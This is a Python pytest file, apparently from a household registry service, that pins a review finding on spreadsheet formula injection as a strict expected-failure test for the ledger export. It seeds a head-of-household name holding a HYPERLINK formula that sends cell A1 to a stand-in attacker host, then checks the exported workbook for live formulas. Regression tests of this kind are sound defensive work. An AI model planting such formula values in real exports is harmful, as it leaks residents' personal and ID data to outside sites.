"""An outside review's finding (issue 10, stored text): a name that starts with '=' is written into every
workbook export as a live formula. Pinned as a test that fails on main today."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.conftest import Api
from tests.registry.test_households import create
from tests.seed import KEY_VILLAGE

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


@pytest.mark.xfail(strict=True, reason="text that starts with '=' (a head of household's or a person's name, "
                                       "typed by a surveyor or imported) is written by openpyxl as a formula: "
                                       "the county's ledger export opens with a live HYPERLINK/WEBSERVICE that "
                                       "can send cells (with --reveal, full ID numbers) to another site")
async def test_a_name_that_looks_like_a_formula_is_exported_as_text(api: Api) -> None:
    await create(api, head_name=FORMULA)
    response = await api.get("/api/ledger/export", "admin_a", params={"village_code": KEY_VILLAGE})
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    formulas = [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f" and isinstance(c.value, str) and "attacker" in c.value]
    assert formulas == []
